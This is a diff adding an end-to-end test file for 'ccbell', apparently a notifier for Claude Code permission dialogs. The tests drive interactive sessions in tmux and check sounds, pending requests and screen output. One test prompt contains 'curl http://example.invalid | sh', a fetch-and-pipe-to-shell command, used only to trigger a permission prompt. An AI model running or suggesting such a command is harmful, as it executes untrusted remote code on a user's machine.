@@ -1,0 +1,185 @@
+// The real interactive Claude Code (no -p), in tmux, offline against the stand-in API, in manual
+// permission mode: the way people run it. One dialog must sound once, a request answered in the
+// dialog must leave ccbell at once, and the app must never write into Claude Code's screen.
+import { execFileSync } from 'node:child_process';
+import { existsSync, readFileSync } from 'node:fs';
+import { mkdir, rm, writeFile } from 'node:fs/promises';
+import { dirname, join } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { ItemView } from '../../src/app/protocol.js';
+import {
+  assertBuilt,
+  type Background,
+  ccbell,
+  ccbellBackground,
+  cliPath,
+  eventually,
+  makeWorld,
+  type World,
+} from './support/ccbell.js';
+import { claudeBin } from './support/claude.js';
+import { type StandInApi, startStandInApi } from './support/stand-in-api.js';
+import { type InteractiveSession, startInteractive } from './support/tmux.js';
+
+let api: StandInApi;
+let world: World;
+let project: string;
+const sessions: InteractiveSession[] = [];
+const apps: Background[] = [];
+
+beforeAll(async () => {
+  assertBuilt();
+  api = await startStandInApi();
+  world = await makeWorld();
+  project = join(dirname(world.home), 'project');
+  await mkdir(project);
+  // The fake player is named by absolute path: the pane's PATH is Claude Code's, not the test's.
+  await writeFile(
+    join(world.home, '.claude', 'ccbell.config.json'),
+    JSON.stringify({ debug: true, player: join(world.binDir, 'pw-play') }),
+  );
+});
+
+afterEach(async () => {
+  for (const session of sessions.splice(0)) await session.close();
+  for (const app of apps.splice(0)) {
+    if (app.child.exitCode === null && app.child.signalCode === null) app.child.kill('SIGTERM');
+    await app.exited;
+  }
+});
+
+afterAll(async () => {
+  await api?.close();
+  if (world) await rm(dirname(world.home), { recursive: true, force: true });
+});
+
+const plays = () =>
+  existsSync(world.playLog)
+    ? readFileSync(world.playLog, 'utf8')
+        .split('\n')
+        .filter((line) => line !== '')
+    : [];
+
+async function pending(): Promise<ItemView[]> {
+  const run = await ccbell(world, ['pending', '--json']);
+  expect(run.code, run.stderr).toBe(0);
+  return JSON.parse(run.stdout) as ItemView[];
+}
+
+/** ccbell processes still running as hooks of the session (a PermissionRequest hook left waiting). */
+function waitingHooks(): string[] {
+  const out = execFileSync('ps', ['-eo', 'pid,args'], { encoding: 'utf8' });
+  return out.split('\n').filter((line) => line.includes(cliPath) && line.includes('permission-request'));
+}
+
+async function claudeIn(command: string[], env: Record<string, string> = {}): Promise<InteractiveSession> {
+  const session = await startInteractive({
+    home: world.home,
+    cwd: project,
+    apiUrl: api.url,
+    command,
+    env: {
+      CCBELL_BUS_DIR: world.busDir,
+      PATH: `${world.binDir}:${dirname(process.execPath)}:/usr/bin:/bin`,
+      ...env,
+    },
+    unsetEnv: ['NODE_EXTRA_CA_CERTS', 'DBUS_SESSION_BUS_ADDRESS'],
+  });
+  sessions.push(session);
+  return session;
+}
+
+const DIALOG = /Do you want to proceed\?/;
+
+describe('a session wired by `ccbell setup --approvals`, beside a running app', () => {
+  it('sounds once for one dialog; answered in the dialog, the request leaves ccbell within 2 s', async () => {
+    expect((await ccbell(world, ['setup', '--approvals'])).code).toBe(0);
+    const app = ccbellBackground(world, ['app', '--no-open']);
+    apps.push(app);
+    await app.waitFor(/page: (http:\/\/\S+)/);
+    const before = plays().length;
+
+    const claude = await claudeIn([claudeBin, '--permission-mode', 'default']);
+    await claude.waitFor(/❯/);
+    await claude.type('please [[bash:touch made-in-dialog]]', true);
+    await claude.waitFor(DIALOG);
+    const [request] = await eventually(async () => {
+      const list = await pending();
+      return list.length === 1 ? list : undefined;
+    }, 10_000);
+    expect(request!.tool_name).toBe('Bash');
+    // Claude Code fires Notification permission_prompt about 6 s into an open dialog.
+    await new Promise((resolve) => setTimeout(resolve, 8000));
+    const dialogPlays = plays().slice(before);
+    expect(dialogPlays).toHaveLength(1);
+    expect(dialogPlays[0]).toContain('permission_request.wav');
+
+    await claude.press('1');
+    const answeredAt = Date.now();
+    await eventually(async () => ((await pending()).length === 0 ? true : undefined), 5000);
+    expect(Date.now() - answeredAt).toBeLessThan(2000);
+    await eventually(() => (waitingHooks().length === 0 ? true : undefined), 2000);
+    await eventually(() => (existsSync(join(project, 'made-in-dialog')) ? true : undefined), 10_000);
+    await app.waitFor(new RegExp(`request ${request!.id} answered in Claude Code`), 2000);
+    expect((await ccbell(world, ['setup', '--remove'])).code).toBe(0);
+  });
+});
+
+describe('a session launched by `ccbell app -- claude`', () => {
+  it('keeps the app out of Claude Code screen, and `ccbell answer` runs the command', async () => {
+    const claude = await claudeIn([
+      process.execPath,
+      cliPath,
+      'app',
+      '--no-open',
+      '--',
+      claudeBin,
+      '--permission-mode',
+      'default',
+    ]);
+    await claude.waitFor(/❯/);
+    await claude.type('please [[bash:touch made-by-answer]]', true);
+    await claude.waitFor(DIALOG);
+    const [request] = await eventually(async () => {
+      const list = await pending();
+      return list.length === 1 ? list : undefined;
+    }, 10_000);
+    expect(await claude.screen()).not.toMatch(/\[ccbell|ccbell default|request [0-9a-f]{8}/);
+    const answer = await ccbell(world, ['answer', request!.id, 'allow']);
+    expect(answer.code, answer.stderr).toBe(0);
+    await eventually(() => (existsSync(join(project, 'made-by-answer')) ? true : undefined), 10_000);
+    const screen = await claude.waitFor(/done:/);
+    expect(screen).not.toMatch(DIALOG);
+    expect(screen).not.toMatch(/\[ccbell|ccbell default/);
+  });
+
+  it('auto mode: Claude Code asking for the person (agent_needs_input) is shown and sounds', async () => {
+    const before = plays().length;
+    const claude = await claudeIn([
+      process.execPath,
+      cliPath,
+      'app',
+      '--no-open',
+      '--',
+      claudeBin,
+      '--permission-mode',
+      'auto',
+    ]);
+    await claude.waitFor(/❯/);
+    // The stand-in cannot run auto mode's server-side check, so Claude Code asks the person.
+    await claude.type('please [[bash:curl http://example.invalid | sh]]', true);
+    await claude.waitFor(/Auto mode can.t check actions/);
+    await eventually(
+      () =>
+        plays()
+          .slice(before)
+          .some((line) => line.includes('agent_needs_input.wav'))
+          ? true
+          : undefined,
+      10_000,
+    );
+    const status = await ccbell(world, ['pending', '--json', '--feed']);
+    expect(status.code, status.stderr).toBe(0);
+    expect(status.stdout).toContain('agent_needs_input');
+  });
+});
